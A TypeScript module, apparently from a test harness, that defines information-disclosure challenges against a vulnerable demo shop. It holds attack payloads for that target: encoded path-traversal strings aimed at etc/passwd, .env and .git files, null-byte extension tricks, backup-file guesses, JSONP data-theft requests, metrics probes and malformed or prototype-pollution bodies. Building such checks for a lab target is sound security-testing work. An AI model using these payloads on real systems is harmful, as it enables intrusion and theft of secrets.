import { sendRawBytes } from '../../client/raw-socket.ts';
import { filePart, createForm } from '../multipart-forms.ts';
import { withExif } from '../crafted-pictures.ts';
import {
  sendAllAttempts,
  anyReply,
  replyContains,
  type Challenge,
  type ChallengeContext,
  type Attempt,
} from './challenge.ts';

/** A line of a request as nobody tidies it; the answer's head and body. */
async function raw({ market }: ChallengeContext, path: string, headers = ''): Promise<string> {
  const request = `GET ${path} HTTP/1.1\r\nHost: market.example\r\nConnection: close\r\n${headers}\r\n`;
  return (await sendRawBytes(market.url, Buffer.from(request))).text;
}
const isFound = (text: string) => /^HTTP\/1\.1 2\d\d/.test(text);

/** Whether one of these files is handed out, however the way to it is written. */
async function served(shop: ChallengeContext, paths: readonly string[]): Promise<boolean> {
  const left = [...paths];
  const found: string[] = [];
  const asking = async () => {
    for (let path = left.pop(); path !== undefined; path = left.pop()) {
      if (isFound(await raw(shop, path))) found.push(path);
    }
  };
  await Promise.all(Array.from({ length: 8 }, asking));
  return found.length > 0;
}

const folders = ['/', '/uploads/', '/pictures/', '/assets/', '/ftp/', '/public/', '/api/'];
const up = ['..', '..%2f..', '%2e%2e/%2e%2e', '..%5c..', '....//..', '%252e%252e%252f..', '..;/..'];
const own = [
  'package.json',
  '.env',
  'backend/dist/server.js',
  'etc/passwd',
  '.data/mongod.log',
  'backend/package.json',
];
const outwards = folders.flatMap((folder) =>
  up.flatMap((way) => own.map((file) => `${folder}${way}/${file}`)),
);
const inEvery = (files: readonly string[]) => folders.flatMap((folder) => files.map((file) => folder + file));

/** What is not for everybody's eyes. */
export const data: readonly Challenge[] = [
  {
    name: 'Access Log',
    attack: 'read the logs of the server and of its database',
    successSign: 'a file',
    isSolved: (shop) =>
      served(shop, [
        ...inEvery(['access.log', 'logs', 'logs/access.log', 'mongod.log', 'keeper.log', 'npm-debug.log']),
        ...[
          '/support/logs',
          '/support/logs/access.log',
          '/.data/mongod.log',
          '/data/mongod.log',
          '/api/logs',
        ],
      ]),
  },
  {
    name: 'Confidential Document',
    attack: 'list folders and climb out of those that are served',
    successSign: 'a list, or a file from elsewhere',
    isSolved: (shop) =>
      served(shop, [
        ...['/uploads', '/uploads/', '/pictures', '/pictures/', '/assets', '/assets/', '/ftp', '/api/'],
        ...outwards,
        ...inEvery([
          'acquisitions.md',
          'package.json',
          '.env',
          '.git/HEAD',
          '.git/config',
          'mongod.json',
          'server.js',
        ]),
      ]),
  },
  {
    name: 'Forgotten Developer Backup',
    attack: 'ask for copies that editors and people leave behind',
    successSign: 'a file',
    isSolved: (shop) => {
      const files = ['package.json', 'index.html', '.env', 'server.js', 'package-lock.json'];
      const endings = [
        '.bak',
        '~',
        '.old',
        '.orig',
        '.swp',
        '.bak%2500.md',
        '.save',
        '.1',
        '.zip',
        '.tar.gz',
      ];
      return served(shop, inEvery(files.flatMap((file) => endings.map((ending) => file + ending))));
    },
  },
  {
    name: 'Forgotten Sales Backup',
    attack: 'ask for dumps of the database and lists of customers',
    successSign: 'a file',
    isSolved: (shop) => {
      const names = ['dump', 'backup', 'orders', 'users', 'customers', 'coupons_2013.md', 'db', 'homechef'];
      const endings = ['.bson', '.gz', '.json', '.csv', '.sql', '.zip', '.bak', '.bak%2500.md', '.xlsx'];
      return served(shop, inEvery(names.flatMap((name) => endings.map((ending) => name + ending))));
    },
  },
  {
    name: 'Misplaced Signature File',
    attack: 'ask for settings, sources and maps of the sources',
    successSign: 'a file',
    isSolved: async (shop) => {
      const page = (await shop.market.call('get', '/', { headers: { Accept: 'text/html' } })).text;
      const scripts = [...page.matchAll(/\/assets\/[\w.-]+\.js/g)].map(([path]) => `${path}.map`);
      if (scripts.length === 0) throw new Error('The page has no scripts: nothing was tried');
      const files = [
        'suspicious_errors.yml',
        'tsconfig.json',
        'server.ts',
        'src/app.ts',
        'Dockerfile',
        '.npmrc',
        '.env.example',
      ];
      return served(shop, [...scripts, ...inEvery(files)]);
    },
  },
  {
    name: 'Poison Null Byte',
    attack: 'end the name of a file early, so that another ending is checked than is read',
    successSign: 'a file',
    isSolved: (shop) => {
      const ends = ['%00.webp', '%2500.webp', '%00', '\\0.webp', '%0a.webp', ';.webp', '?.webp', '%23.webp'];
      const files = ['../package.json', '..%2fpackage.json', 'package.json', '../.env', '.gitkeep'];
      const paths = ['/uploads/', '/pictures/', '/assets/'].flatMap((folder) =>
        files.flatMap((file) => ends.map((end) => `${folder}${file}${end}`)),
      );
      return served(shop, paths);
    },
  },
  {
    name: 'Email Leak',
    attack: 'have a member’s data answered as a script that a page elsewhere may run',
    successSign: 'a script, or leave for another origin to read',
    isSolved: (shop) => {
      const paths = ['/api/users/profile', '/rest/user/whoami', '/api/orders/myorders', '/api/products'];
      const tries = paths.flatMap((path) =>
        ['callback', 'jsonp', 'cb'].map((name): Attempt => {
          const headers = { Origin: 'https://elsewhere.example', Referer: 'https://elsewhere.example/' };
          return ['get', `${path}?${name}=stolen`, { token: shop.member.token, headers }];
        }),
      );
      return anyReply(shop, tries, ({ text, headers }) => {
        const isScript = /javascript/.test(String(headers['content-type']));
        return isScript || text.includes('stolen(') || 'access-control-allow-origin' in headers;
      });
    },
  },
  {
    name: 'Exposed Metrics',
    attack: 'ask for figures that are only for who runs the server',
    successSign: 'figures',
    isSolved: async (shop) => {
      const paths = [
        'metrics',
        'prometheus',
        'actuator',
        'actuator/env',
        'debug/vars',
        'server-status',
        'status',
        'json',
        'env',
        '_stats',
      ];
      const found = await served(
        shop,
        paths.flatMap((path) => [`/${path}`, `/api/${path}`]),
      );
      const replies = await sendAllAttempts(shop, [
        ['get', '/api/health'],
        ['get', '/api/ready'],
      ]);
      return found || replies.some(replyContains(/mongodb:|heap|uptime|pid|version|hostname/i));
    },
  },
  {
    name: 'Meta Geo Stalking',
    attack: 'find out from a dish’s picture where it was taken',
    successSign: 'the place, or the camera, in the picture',
    isSolved: async (shop) => {
      const { market, chef } = shop;
      const { type, body } = createForm([filePart(await withExif('the kitchen of the chef'))]);
      const headers = { 'Content-Type': type };
      const { status, text } = await market.call('post', '/api/upload', { body, headers, token: chef.token });
      if (status !== 200) throw new Error(`The photo was not taken: ${status}`);
      const endings = ['', '-320', '-640'].flatMap((width) => [`${width}.avif`, `${width}.webp`]);
      const files = await Promise.all(endings.map((ending) => raw(shop, text.replace('.webp', ending))));
      if (!files.every(isFound)) throw new Error('The photo is not served');
      return files.some((file) => /Exif|GPS|kitchen of the chef/.test(file));
    },
  },
  {
    name: 'Error Handling',
    attack: 'provoke an error that tells more than it should',
    successSign: 'an answer of 5xx, a trace, or words of the database',
    isSolved: async (shop) => {
      const { token } = shop.thief;
      const json = { 'Content-Type': 'application/json' };
      const bodies = [
        '{"a":',
        '[',
        '"',
        '\0',
        'null',
        '[]',
        '7',
        '{"email":"\ud800"}',
        '{"__proto__":null}',
        `${'['.repeat(20_000)}`,
      ];
      const sending = [
        '/api/users/login',
        '/api/orders',
        '/api/products/x/reviews',
        '/api/users/profile',
      ].flatMap((path) =>
        bodies.map((body): Attempt => [
          path.endsWith('profile') ? 'put' : 'post',
          path,
          { body, token, headers: json },
        ]),
      );
      const paths = [
        '/api/%',
        '/%c0%ae',
        '/api/products/%ff',
        '/uploads/%',
        '/api/orders/%00',
        '/assets/%E0%A4%A',
      ];
      const queries = [
        '/api/products?limit=1e999',
        '/api/products?page=-1',
        '/api/products?sort=toString',
        '/api/products?__proto__[x]=1',
      ];
      const replies = await sendAllAttempts(shop, [
        ...sending,
        ...[...paths, ...queries].map((path): Attempt => ['get', path, { token }]),
      ]);
      const telling = /(?:\n|\\n) +at |node_modules|MongoServer|Mongoose|ECONN|SyntaxError|CastError|<pre>/;
      return replies.some(({ status, text }) => status >= 500 || telling.test(text));
    },
  },
];
